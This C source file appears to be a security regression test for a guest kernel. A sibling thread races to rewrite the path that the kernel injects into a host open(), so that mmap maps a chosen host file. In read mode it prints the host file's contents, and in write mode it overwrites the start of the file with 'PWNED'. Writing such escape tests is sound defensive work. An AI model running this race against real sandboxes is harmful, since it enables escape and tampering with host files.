// SPDX-License-Identifier: GPL-2.0-only
/*
 * Escape class 1 of issue 11: an injected host syscall reads its input
 * from guest memory a sibling thread can rewrite.
 *
 * Without the host helper, a guest mmap of a file makes the kernel write
 * "/proc/<vmctl pid>/fd/<n>" below the calling thread's stack
 * (src/kernel/syscalls/memory.ts, scratchBelowStack: sp - 640 rounded down
 * to 16) and inject open() of that address into the guest's host process
 * (src/kernel/address-space.ts, openKernelFile). A sibling thread that keeps
 * writing a host path there gets that host file opened and mapped instead.
 *
 *   mmap-path read HOSTFILE TRIES SECONDS
 *	MAP_SHARED, PROT_READ of a guest file opened read-only: the guest
 *	prints what it mapped, so a host file's content shows in its output.
 *   mmap-path write HOSTFILE TRIES SECONDS
 *	MAP_SHARED, PROT_READ|PROT_WRITE of a guest file opened read-write:
 *	a host file mapped so is overwritten with "PWNED" at offset 0.
 *   mmap-path scratch
 *	one plain file mmap from a stack filled with a pattern: Linux never
 *	writes below a thread's stack pointer for mmap, so any byte changed
 *	there (and a "/proc/<pid>/fd/<n>" in it) is a leak.
 *
 * The mmap runs on a stack of this program's own (stack_area), so the
 * address the kernel picks for its scratch string is known exactly.
 */
#include "escape.h"
#include <fcntl.h>
#include <sys/mman.h>

#define GUEST_FILE	"/tmp/escape-guest-data"
#define GUEST_DATA	"GUEST-DATA-0123456789\n"
#define STACK_SIZE	16384
/* scratchBelowStack: the 128-byte red zone, then 512 bytes, 16-aligned */
#define SCRATCH_OFF	640
#define PAGE		4096UL

static unsigned char stack_area[STACK_SIZE] __attribute__((aligned(64)));
static const char *host_path;
static size_t host_path_len;

static unsigned char *stack_top(void)
{
	return stack_area + STACK_SIZE;
}

/* mmap(NULL, len, prot, flags, fd, 0) with the stack pointer at @top. */
static long mmap_on_stack(void *top, unsigned long len, unsigned long prot,
			  unsigned long flags, long fd)
{
	register unsigned long r10 asm("r10") = flags;
	register long r8 asm("r8") = fd;
	register unsigned long r9 asm("r9") = 0;
	long ret;

	asm volatile("mov %%rsp, %%r12\n\t"
		     "mov %[top], %%rsp\n\t"
		     "syscall\n\t"
		     "mov %%r12, %%rsp"
		     : "=a"(ret)
		     : "0"(9L), "D"(0UL), "S"(len), "d"(prot), "r"(r10),
		       "r"(r8), "r"(r9), [top] "r"(top)
		     : "rcx", "r11", "r12", "memory");
	return ret;
}

static int is_error(long ret)
{
	return ret < 0 && ret > -4096;
}

/* The sibling: the host path, over and over, where the kernel's string goes. */
static void *rewrite_path(void *arg)
{
	struct sibling *s = arg;
	char *dst = (char *)stack_top() - SCRATCH_OFF;

	s->running = 1;
	while (!s->stop) {
		memcpy(dst, host_path, host_path_len + 1);
		asm volatile("" ::: "memory");
	}
	return NULL;
}

#define PRINTABLE_MAX	200
#define PRINTABLE_SIZE	(4 * PRINTABLE_MAX + 1)

/* Up to PRINTABLE_MAX bytes of @p, to its first NUL, as one line in @out. */
static void printable(char out[PRINTABLE_SIZE], const unsigned char *p, size_t len)
{
	size_t i, o = 0;

	for (i = 0; i < len && i < PRINTABLE_MAX && p[i] != '\0'; i++) {
		if (p[i] >= 0x20 && p[i] < 0x7f && p[i] != '\\') {
			out[o++] = (char)p[i];
		} else {
			xsnprintf(out + o, PRINTABLE_SIZE - o, "\\x%02x", p[i]);
			o += 4;
		}
	}
	out[o] = '\0';
}

static int open_guest_file(int flags)
{
	ssize_t n;
	int fd;

	fd = open(GUEST_FILE, O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		die("open %s: %s", GUEST_FILE, strerror(errno));
	n = write(fd, GUEST_DATA, strlen(GUEST_DATA));
	if (n != (ssize_t)strlen(GUEST_DATA))
		die("write %s: %s", GUEST_FILE, strerror(errno));
	if (close(fd) != 0)
		die("close: %s", strerror(errno));
	fd = open(GUEST_FILE, flags);
	if (fd < 0)
		die("open %s: %s", GUEST_FILE, strerror(errno));
	return fd;
}

static int attack_map(int writable, long tries, double seconds)
{
	const char *name = writable ? "mmap-path-write" : "mmap-path-read";
	unsigned long prot = PROT_READ | (writable ? PROT_WRITE : 0);
	char seen[PRINTABLE_SIZE] = "";
	double deadline = now_s() + seconds;
	struct sibling sib;
	long n, errors = 0, last_error = 0, won = 0;
	int fd;

	fd = open_guest_file(writable ? O_RDWR : O_RDONLY);
	sibling_start(&sib, rewrite_path);
	for (n = 1; n <= tries && now_s() < deadline; n++) {
		long ret = mmap_on_stack(stack_top(), PAGE, prot, MAP_SHARED, fd);
		unsigned char *map = (unsigned char *)ret;

		if (is_error(ret)) {
			errors++;	/* a half-written path: nothing opened */
			last_error = ret;
			continue;
		}
		if (memcmp(map, GUEST_DATA, strlen(GUEST_DATA)) != 0) {
			printable(seen, map, PAGE);
			if (writable)
				memcpy(map, "PWNED", 5);
			won = 1;
		}
		if (munmap(map, PAGE) != 0)
			die("munmap: %s", strerror(errno));
		if (won)
			break;
	}
	sibling_stop(&sib);
	if (close(fd) != 0)
		die("close: %s", strerror(errno));
	if (n > tries)
		n = tries;
	say("ESCAPE %s %s tries=%ld errors=%ld last_error=%ld mapped=%s", name,
	    won ? "won" : "held", n, errors, last_error,
	    won ? seen : "guest-file");
	return 0;
}

static int attack_scratch(void)
{
	unsigned char *top = stack_top();
	long first = -1, last = -1, changed = 0, i;
	char text[PRINTABLE_SIZE] = "";
	long ret;
	int fd;

	fd = open_guest_file(O_RDONLY);
	memset(stack_area, 0xa5, sizeof(stack_area));
	ret = mmap_on_stack(top, PAGE, PROT_READ, MAP_PRIVATE, fd);
	if (is_error(ret))
		die("mmap %s: %s", GUEST_FILE, strerror((int)-ret));
	for (i = 0; i < STACK_SIZE; i++) {
		if (stack_area[i] == 0xa5)
			continue;
		if (first < 0)
			first = i;
		last = i;
		changed++;
	}
	if (first >= 0)
		printable(text, stack_area + first, (size_t)(last - first + 1));
	if (munmap((void *)ret, PAGE) != 0)
		die("munmap: %s", strerror(errno));
	if (close(fd) != 0)
		die("close: %s", strerror(errno));
	if (changed)
		say("ESCAPE scratch-write won tries=1 changed=%ld below_sp=%ld text=%s",
		    changed, (long)(top - (stack_area + first)), text);
	else
		say("ESCAPE scratch-write held tries=1 changed=0");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "scratch") == 0)
		return attack_scratch();
	if (argc == 5 && (strcmp(argv[1], "read") == 0 ||
			  strcmp(argv[1], "write") == 0)) {
		host_path = argv[2];
		host_path_len = strlen(host_path);
		if (host_path_len + 1 > SCRATCH_OFF - 128)
			die("host path too long");
		return attack_map(strcmp(argv[1], "write") == 0,
				  parse_long(argv[3], "tries"),
				  (double)parse_long(argv[4], "seconds"));
	}
	die("usage: mmap-path read|write HOSTFILE TRIES SECONDS | mmap-path scratch");
}
